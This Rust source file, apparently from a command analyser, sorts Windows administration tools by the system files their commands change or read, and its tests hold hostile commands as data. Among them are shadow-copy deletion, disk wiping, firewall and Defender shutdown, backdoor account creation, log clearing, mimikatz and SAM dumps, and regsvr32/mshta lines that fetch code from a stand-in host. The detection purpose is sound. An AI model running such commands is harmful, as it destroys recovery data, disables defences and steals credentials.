//! Programs of Windows that administer the machine, whatever shell starts them. What they change is a write to the file in
//! which the system keeps it. Their switches begin with a slash, so that all of their words are operands here.

use super::call::{Call, Tool, strict};
use super::words;
use crate::reading::ActKind;
use crate::script::Word;

/// Where the registry's hives lie.
const HIVES: &str = r"C:\Windows\System32\config";
/// The accounts and what proves them.
const ACCOUNTS: &str = r"C:\Windows\System32\config\SAM";
/// The copies to which a disk can be set back.
const COPIES: &str = r"C:\Windows\System32\VSS";
const JOBS: &str = r"C:\Windows\System32\Tasks";
const LOGS: &str = r"C:\Windows\System32\winevt\Logs";
const BOOT: &str = r"C:\Windows\Boot\BCD";
const DISK: &str = r"\\.\PhysicalDrive0";

pub(super) const TOOLS: &[Tool] = &[
    strict("vssadmin", "", |call| {
        if says(call, &["delete", "resize"]) {
            call.write_named(COPIES);
        }
    }),
    strict("wmic", "", |call| {
        let copies = says(call, &["shadowcopy"]) && says(call, &["delete"]);
        if copies {
            call.write_named(COPIES);
        }
        if let Some(sheet) = word_with(call, "/format:http") {
            remote(call, &sheet);
        }
    }),
    strict("wbadmin", "", |call| {
        if says(call, &["delete", "disable"]) {
            call.write_named(COPIES);
        }
    }),
    strict("diskpart", "", |call| {
        if !says(call, &["/?"]) {
            call.write_named(DISK);
        }
    }),
    strict("cipher", "", |call| {
        if word_with(call, "/w").is_some() {
            call.write_named(DISK);
        }
    }),
    strict("fsutil", "", |call| {
        let loses = [
            "deletejournal",
            "setzerodata",
            "setvaliddata",
            "dismount",
            "setdirty",
        ];
        if says(call, &loses) || says(call, &["set"]) && says(call, &["behavior", "repair"]) {
            call.write_named(DISK);
        }
    }),
    strict("bcdedit", "", |call| {
        let changes = [
            "/set",
            "/delete",
            "/deletevalue",
            "/create",
            "/import",
            "/default",
            "/bootsequence",
            "/displayorder",
            "/debug",
        ];
        if says(call, &changes) {
            call.write_named(BOOT);
        }
    }),
    strict("bootrec bootsect bcdboot", "", |call| {
        if !call.args.is_empty() && !says(call, &["/?", "/help"]) {
            call.write_named(BOOT);
        }
    }),
    strict("reg", "", registry),
    strict("netsh", "", |call| {
        let filter = says(call, &["advfirewall", "firewall", "portproxy", "winhttp"]);
        if filter && says(call, &["set", "add", "delete", "reset", "import"]) {
            call.write_named(HIVES);
        }
    }),
    strict("net net1", "", |call| {
        let accounts = says(call, &["user", "localgroup", "group"]);
        let named = call.line.operands.len() > 2;
        if accounts && named && (says(call, &["/add", "/delete", "/active"]) || sets_password(call))
        {
            call.write_named(ACCOUNTS);
        }
        if says(call, &["stop"]) && names_guard(call) {
            call.write_named(HIVES);
        }
    }),
    strict("sc", "", |call| {
        let guard =
            says(call, &["stop", "config", "pause", "sdset", "failure"]) && names_guard(call);
        let services = says(call, &["create", "delete"]) && call.line.operands.len() > 1;
        if guard || services {
            call.write_named(HIVES);
        }
    }),
    strict("schtasks", "", |call| {
        if says(call, &["/create", "/delete", "/change"]) {
            call.write_named(JOBS);
        }
    }),
    strict("wevtutil", "", |call| {
        if says(
            call,
            &[
                "cl",
                "clear-log",
                "sl",
                "set-log",
                "um",
                "uninstall-manifest",
            ],
        ) {
            call.write_named(LOGS);
        }
    }),
    strict("takeown", "", |call| {
        let path = word_behind(call, "/f");
        if let Some(path) = path {
            call.write(path);
        }
    }),
    strict("icacls cacls xcacls", "", |call| {
        let changes = [
            "/grant",
            "/deny",
            "/remove",
            "/reset",
            "/setowner",
            "/inheritance",
            "/setintegritylevel",
            "/g",
            "/p",
            "/d",
            "/r",
        ];
        let begins = |word: &Word| {
            changes.iter().any(|change| {
                lower(word).is_some_and(|text| text.split(':').next() == Some(change))
            })
        };
        let path = call.operand(0);
        if call.args.iter().any(begins)
            && let Some(path) = path
        {
            call.write(path);
        }
    }),
    strict(
        "mshta regsvr32 rundll32 msiexec installutil cscript wscript",
        "",
        |call| {
            let from_network = ["http://", "https://", "javascript:", "vbscript:"]
                .iter()
                .find_map(|start| word_with(call, start));
            if let Some(word) = from_network {
                remote(call, &word);
            }
        },
    ),
    strict("bitsadmin", "", |call| {
        let url = ["http://", "https://"]
            .iter()
            .find_map(|start| word_with(call, start));
        if let Some(url) = url {
            let uploads = says(call, &["/upload"]);
            call.network(Some(url), uploads);
            let file = call.line.operands.last().cloned();
            if let Some(file) = file.filter(|_| !uploads) {
                call.write(file);
            }
        }
    }),
    strict(
        "mimikatz lazagne pypykatz secretsdump secretsdump.py impacket-secretsdump",
        "",
        |call| call.read_named(ACCOUNTS),
    ),
];

/// `reg VERB KEY …`: the keys of the machine are written, and its accounts read.
fn registry(call: &mut Call<'_>) {
    let key = call.operand(1).as_ref().and_then(lower).unwrap_or_default();
    let machine = [
        "hklm",
        "hkey_local_machine",
        "hku",
        "hkcr",
        "hkey_classes_root",
    ]
    .iter()
    .any(|hive| key.split('\\').next() == Some(hive));
    // What starts when the user does.
    let starts = key.contains(r"\currentversion\run")
        || key.contains(r"\windows nt\currentversion\winlogon");
    if says_first(
        call,
        &["add", "delete", "import", "restore", "load", "copy"],
    ) && (machine || starts || says_first(call, &["import", "restore", "load"]))
    {
        call.write_named(HIVES);
    }
    let holds_accounts = ["sam", "security", "system"]
        .iter()
        .any(|hive| key.split('\\').nth(1) == Some(hive));
    if machine && holds_accounts && says_first(call, &["save", "export", "query"]) {
        call.read_named(ACCOUNTS);
    }
}

/// The services that keep watch.
fn names_guard(call: &Call<'_>) -> bool {
    says(
        call,
        &[
            "windefend",
            "wdnissvc",
            "sense",
            "mpssvc",
            "wscsvc",
            "eventlog",
            "vss",
            "swprv",
            "wuauserv",
            "securityhealthservice",
            "sysmon",
            "sysmon64",
            "bfe",
        ],
    )
}

/// `net user NAME PASSWORD`.
fn sets_password(call: &Call<'_>) -> bool {
    call.operand(0).is_some_and(|verb| words::is(&verb, "user"))
        && call
            .operand(2)
            .is_some_and(|word| !words::starts(&word, "/"))
}

fn lower(word: &Word) -> Option<String> {
    words::text(word).map(str::to_ascii_lowercase)
}

/// Whether one of these is among the words, in any case.
fn says(call: &Call<'_>, names: &[&str]) -> bool {
    let mut said = call.args.iter().filter_map(words::text);
    said.any(|text| names.iter().any(|name| name.eq_ignore_ascii_case(text)))
}

fn says_first(call: &Call<'_>, names: &[&str]) -> bool {
    let first = call.args.first().and_then(words::text);
    first.is_some_and(|text| names.iter().any(|name| name.eq_ignore_ascii_case(text)))
}

/// The first word that holds a text, which is in small letters.
fn word_with(call: &Call<'_>, part: &str) -> Option<Word> {
    let mut found = call.args.iter();
    found
        .find(|word| lower(word).is_some_and(|text| text.contains(part)))
        .cloned()
}

fn word_behind(call: &Call<'_>, name: &str) -> Option<Word> {
    let at = call
        .args
        .iter()
        .position(|word| words::text(word).is_some_and(|text| text.eq_ignore_ascii_case(name)))?;
    call.args.get(at + 1).cloned()
}

/// Code runs that a word of the line names.
fn remote(call: &mut Call<'_>, word: &Word) {
    let url = words::map(word, |text| {
        text.find("http")
            .and_then(|at| text.get(at..).map(str::to_owned))
    });
    call.act(ActKind::RemoteCode {
        url: url.map(Into::into),
    });
}

#[cfg(test)]
mod tests {
    use crate::tools::render::effects;

    fn check(command: &str, expected: &str) {
        assert_eq!(effects(command), expected, "{command}");
    }

    #[test]
    fn copies_and_disks() {
        let copies = r"write C:\Windows\System32\VSS";
        check("vssadmin delete shadows /all /quiet", copies);
        check(
            "vssadmin Resize ShadowStorage /For=C: /MaxSize=401MB",
            copies,
        );
        check("vssadmin list shadows", "");
        check("wmic shadowcopy delete", copies);
        check("wmic cpu get name", "");
        check("wbadmin delete catalog -quiet", copies);
        check("wbadmin get versions", "");
        let disk = r"write \\.\PhysicalDrive0";
        check("diskpart /s wipe.txt", disk);
        check("diskpart", disk);
        check("cipher /w:C", disk);
        check("cipher /e secret", "");
        check("fsutil usn deletejournal /d c:", disk);
        check("fsutil fsinfo drives", "");
    }

    #[test]
    fn settings() {
        let boot = r"write C:\Windows\Boot\BCD";
        check("bcdedit /set '{default}' recoveryenabled no", boot);
        check("bcdedit /enum", "");
        let hives = r"write C:\Windows\System32\config";
        check("reg delete 'HKLM\\SOFTWARE\\x' /f", hives);
        check(
            "reg add 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' /v x",
            hives,
        );
        check("reg add 'HKCU\\Software\\Mine' /v x", "");
        check("reg query 'HKLM\\SOFTWARE\\x'", "");
        let accounts = r"C:\Windows\System32\config\SAM";
        check("reg save 'HKLM\\SAM' sam.hiv", &format!("read {accounts}"));
        check("netsh advfirewall set allprofiles state off", hives);
        check("netsh wlan show profiles", "");
        check("net user x p /add", &format!("write {accounts}"));
        check(
            "net localgroup administrators x /add",
            &format!("write {accounts}"),
        );
        check("net user", "");
        check("net user x", "");
        check("net stop WinDefend", hives);
        check("net stop mysql", "");
        check("sc stop WinDefend", hives);
        check("sc query WinDefend", "");
        check("sc create x binpath= c:\\\\x.exe", hives);
        check(
            "schtasks /create /tn x /tr x.exe",
            r"write C:\Windows\System32\Tasks",
        );
        check("schtasks /query", "");
        check(
            "wevtutil cl Security",
            r"write C:\Windows\System32\winevt\Logs",
        );
        check("wevtutil qe Security", "");
        check("takeown /f 'C:\\Windows' /r", r"write C:\Windows");
        check("icacls 'C:\\x' /grant Everyone:F /T", r"write C:\x");
        check("icacls 'C:\\x'", "");
        check(
            "mimikatz sekurlsa::logonpasswords",
            &format!("read {accounts}"),
        );
    }

    #[test]
    fn code_from_the_network() {
        let code = "remote code https://x.example/a";
        check("mshta https://x.example/a", code);
        check("regsvr32 /s /n /u /i:https://x.example/a scrobj.dll", code);
        check("msiexec /q /i https://x.example/a", code);
        check("msiexec /i setup.msi", "");
        check("wmic os get /format:https://x.example/a", code);
    }
}
